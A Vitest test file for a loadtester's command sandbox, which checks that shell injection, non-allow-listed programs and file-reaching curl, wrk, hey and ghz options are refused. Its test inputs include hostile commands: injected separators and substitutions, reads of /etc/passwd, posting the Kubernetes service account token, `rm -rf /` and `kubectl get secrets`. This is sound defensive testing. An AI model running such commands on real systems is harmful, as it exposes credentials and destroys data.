import { describe, expect, it } from 'vitest';
import { checkArguments } from './argument-rules.js';
import { parseCommandLine, splitFields } from './command-line.js';
import {
  DEFAULT_ALLOWED_COMMANDS,
  checkProgram,
  parseAllowEntry,
  planCommand,
  type CommandPolicy,
} from './commands.js';
import { CommandNotAllowedError, ShellSyntaxError } from './errors.js';

const safe: CommandPolicy = {
  allowAnyCommand: false,
  allowed: DEFAULT_ALLOWED_COMMANDS.map(parseAllowEntry),
};
const unsafe: CommandPolicy = { ...safe, allowAnyCommand: true };

describe('parseCommandLine', () => {
  it('splits words like a shell: quotes, escapes, empty arguments, line continuations', () => {
    expect(parseCommandLine('hey -z 1m -q 10 -c 2 http://podinfo-canary.test:9898/')).toEqual([
      'hey',
      '-z',
      '1m',
      '-q',
      '10',
      '-c',
      '2',
      'http://podinfo-canary.test:9898/',
    ]);
    expect(parseCommandLine(`curl -H 'X-Canary: always' -d "{\\"a\\": 1}" ''`)).toEqual([
      'curl',
      '-H',
      'X-Canary: always',
      '-d',
      '{"a": 1}',
      '',
    ]);
    expect(parseCommandLine('a\\ b "c\\d" \'e\\f\' g\\\nh')).toEqual(['a b', 'c\\d', 'e\\f', 'gh']);
  });

  it('keeps shell characters that are quoted or escaped, and URL characters a shell leaves alone', () => {
    expect(parseCommandLine(`hey -H 'a;b|c&&d>$(e)' "x|y;z" \\; 'http://h/p?q=1&r=2'`)).toEqual([
      'hey',
      '-H',
      'a;b|c&&d>$(e)',
      'x|y;z',
      ';',
      'http://h/p?q=1&r=2',
    ]);
    expect(parseCommandLine('curl http://h/a?b=1 -d price$ 100% *')).toEqual([
      'curl',
      'http://h/a?b=1',
      '-d',
      'price$',
      '100%',
      '*',
    ]);
  });

  it('refuses an unquoted & in a URL, as a shell would have cut the command there', () => {
    expect(() => parseCommandLine('hey http://h/p?q=1&r=2')).toThrow("'&' (background job)");
  });

  it.each([
    ['hey http://h/; touch /tmp/x', "';' (command separator)"],
    ['hey http://h/ && touch /tmp/x', "'&&' (and-list)"],
    ['hey http://h/ || touch /tmp/x', "'||' (or-list)"],
    ['hey http://h/ | touch /tmp/x', "'|' (pipe)"],
    ['hey http://h/ &', "'&' (background job)"],
    ['hey http://h/$(touch /tmp/x)', "'$(…)' (command substitution)"],
    ['hey "http://h/$(touch /tmp/x)"', "'$(…)' (command substitution)"],
    ['hey http://h/`touch /tmp/x`', 'backticks'],
    ['hey "http://h/`id`"', 'backticks'],
    ['hey http://h/ > /tmp/x', "'>' (output redirection)"],
    ['hey http://h/ < /etc/passwd', "'<' (input redirection)"],
    ['hey http://h/\ntouch /tmp/x', 'a newline'],
    ['hey http://$HOST/', "'$HOST' (variable expansion)"],
    ['hey "http://${HOST}/"', "'${…}' (variable expansion)"],
    ['hey http://h/$1', "'$1' (special parameter)"],
    ["hey $'\\x41'", 'shell quoting'],
    ['(hey http://h/)', "'(' (subshell)"],
    ['hey http://h/ # comment', "'#' (comment)"],
    ["hey 'http://h/", 'an unterminated quote'],
    ['hey http://h/\\', 'a trailing backslash'],
    ['hey http://h/\0', 'a NUL byte'],
  ])('refuses %j naming %s', (text, construct) => {
    expect(() => parseCommandLine(text)).toThrow(ShellSyntaxError);
    expect(() => parseCommandLine(text)).toThrow(construct);
  });

  it('says where the construct is and what to do instead', () => {
    expect(() => parseCommandLine('hey x; id')).toThrow(
      "shell syntax is not allowed: ';' (command separator) at character 6; commands run without a shell",
    );
  });
});

describe('splitFields (helm and kubectl tasks, as Flagger)', () => {
  it('splits on whitespace only and keeps quotes as characters', () => {
    expect(splitFields("  test podinfo\t-n test --set a='b c' ")).toEqual([
      'test',
      'podinfo',
      '-n',
      'test',
      '--set',
      "a='b",
      "c'",
    ]);
  });
});

describe('the allow-list', () => {
  it('matches the program by basename and multi-word entries by their following arguments', () => {
    expect(() => checkProgram(['/usr/bin/hey', '-n', '1', 'http://h/'], safe)).not.toThrow();
    expect(() => checkProgram(['kubectl', 'rollout', 'status', 'deploy/podinfo'], safe)).not.toThrow();
    // kubectl get is not a default: it would hand the loadtester's Secrets to an unauthenticated caller.
    expect(() => checkProgram(['kubectl', 'get', 'secrets', '-o', 'yaml'], safe)).toThrow(
      '"kubectl get" is not allowed',
    );
    expect(() => checkProgram(['kubectl', 'rollout', 'undo', 'deploy/podinfo'], safe)).toThrow(
      '"kubectl rollout" is not allowed',
    );
    expect(() => checkProgram(['helm', 'uninstall', 'podinfo'], safe)).toThrow(
      '"helm uninstall" is not allowed',
    );
  });

  it('refuses other programs with the list of what is allowed', () => {
    expect(() => checkProgram(['rm', '-rf', '/'], safe)).toThrow(CommandNotAllowedError);
    expect(() => checkProgram(['python3', '-c', 'print(1)'], safe)).toThrow(
      '"python3" is not allowed; allowed: hey, curl, ghz, wrk, grpc_health_probe, helm test, helmv3 test, kubectl rollout status (extend with --allow-command)',
    );
  });

  it('refuses shells and other program launchers even when listed', () => {
    const listed: CommandPolicy = { allowAnyCommand: false, allowed: [['sh'], ['env']] };
    expect(() => checkProgram(['/bin/sh', '-c', 'id'], listed)).toThrow(
      'sh runs other programs; start the loadtester with --allow-any-command to allow it',
    );
    expect(() => checkProgram(['env', 'rm', '-rf', '/'], listed)).toThrow('env runs other programs');
  });

  it('reads --allow-command entries and refuses paths and shells there', () => {
    expect(parseAllowEntry('  helm   upgrade ')).toEqual(['helm', 'upgrade']);
    expect(() => parseAllowEntry('/usr/bin/jq')).toThrow("give the program's name (jq), not a path");
    expect(() => parseAllowEntry('bash')).toThrow('use --allow-any-command instead');
    expect(() => parseAllowEntry(' ')).toThrow('--allow-command needs a program');
  });
});

describe('planCommand', () => {
  it('runs cmd tasks without a shell, and with sh -c only under --allow-any-command', () => {
    expect(planCommand('cmd', "hey -H 'a: b' http://h/", safe)).toEqual(['hey', '-H', 'a: b', 'http://h/']);
    expect(planCommand('cmd', 'hey http://h/ | tee x', unsafe)).toEqual([
      'sh',
      '-c',
      'hey http://h/ | tee x',
    ]);
  });

  it('refuses bash tasks unless --allow-any-command', () => {
    expect(() => planCommand('bash', 'echo hi', safe)).toThrow(
      'bash tasks run a shell; start the loadtester with --allow-any-command to allow them',
    );
    expect(planCommand('bash', 'echo hi', unsafe)).toEqual(['bash', '-c', 'echo hi']);
  });

  it('runs helm, helmv3 and kubectl with Flagger splitting, subcommands checked against the allow-list', () => {
    expect(planCommand('helm', 'test podinfo -n test', safe)).toEqual([
      'helm',
      'test',
      'podinfo',
      '-n',
      'test',
    ]);
    expect(planCommand('helmv3', 'test podinfo', safe)).toEqual(['helmv3', 'test', 'podinfo']);
    expect(() => planCommand('helm', 'uninstall podinfo', safe)).toThrow(CommandNotAllowedError);
    expect(() => planCommand('kubectl', 'delete ns test', safe)).toThrow('"kubectl delete" is not allowed');
    expect(planCommand('kubectl', 'delete ns test', unsafe)).toEqual(['kubectl', 'delete', 'ns', 'test']);
  });

  it('refuses empty commands and NUL bytes', () => {
    expect(() => planCommand('cmd', '  ', safe)).toThrow('metadata.cmd is required for type cmd');
    expect(() => planCommand('kubectl', 'get pods\0', unsafe)).toThrow('NUL byte');
  });
});

describe('options of allow-listed programs that reach the file system', () => {
  it.each([
    ['curl -o /tmp/x http://h/', 'curl option -o'],
    ['curl -sSLo /tmp/x http://h/', 'curl option -o'],
    ['curl --output=/tmp/x http://h/', 'curl option --output'],
    ['curl --out /tmp/x http://h/', 'curl option --out'],
    ['curl -K /tmp/config', 'curl option -K'],
    ['curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://h/', 'curl argument @/var/run'],
    ['curl -d@/etc/passwd http://h/', 'curl option -d@/etc/passwd'],
    ['curl --data-binary=@/etc/passwd http://h/', 'curl option --data-binary=@/etc/passwd'],
    ['curl -F f=@/etc/passwd http://h/', 'curl option -F f=@/etc/passwd'],
    ['curl --data-urlencode f@/etc/passwd http://h/', 'curl option --data-urlencode'],
    ['curl file:///etc/passwd', 'curl URL file:///etc/passwd'],
    ['curl gopher://h/', 'uses the gopher scheme'],
    ['wrk -s /tmp/script.lua http://h/', 'wrk option -s'],
    ['wrk -t2 --scr /tmp/script.lua http://h/', 'wrk option --scr'],
    ['hey -D /etc/passwd -m POST http://h/', 'hey option -D'],
    ['ghz --data-file /etc/passwd --call a.B/C h:1', 'ghz option --data-file'],
    ['ghz -o /tmp/report.html --call a.B/C h:1', 'ghz option -o'],
  ])('refuses %j', (text, subject) => {
    expect(() => checkArguments(parseCommandLine(text))).toThrow(CommandNotAllowedError);
    expect(() => checkArguments(parseCommandLine(text))).toThrow(subject);
  });

  it.each([
    'curl -sS -f -H "X-Api: 1" --cookie a=b -d \'{"a":1}\' --compressed https://h/token',
    'curl -sd test http://podinfo-canary:9898/token',
    'wrk -t2 -c10 -d30s --latency http://h/',
    'hey -z 1m -q 10 -c 2 -m POST -d body -H "a: b" http://h/',
    'ghz --insecure --data \'{"a":1}\' --call a.B/C h:1',
    'grpc_health_probe -addr=podinfo-canary:9999',
  ])('accepts %j', (text) => {
    expect(() => checkArguments(parseCommandLine(text))).not.toThrow();
  });
});
